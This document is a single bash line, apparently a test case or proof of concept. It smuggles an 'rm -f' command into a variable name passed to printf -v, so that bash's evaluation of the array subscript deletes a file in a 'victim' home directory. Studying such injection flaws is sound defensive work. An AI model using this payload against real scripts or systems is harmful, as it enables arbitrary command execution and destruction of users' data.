v='a[$(rm -f /srv/rt/s/d1/home/victim/keep-E15)]'; printf -v "$v" x
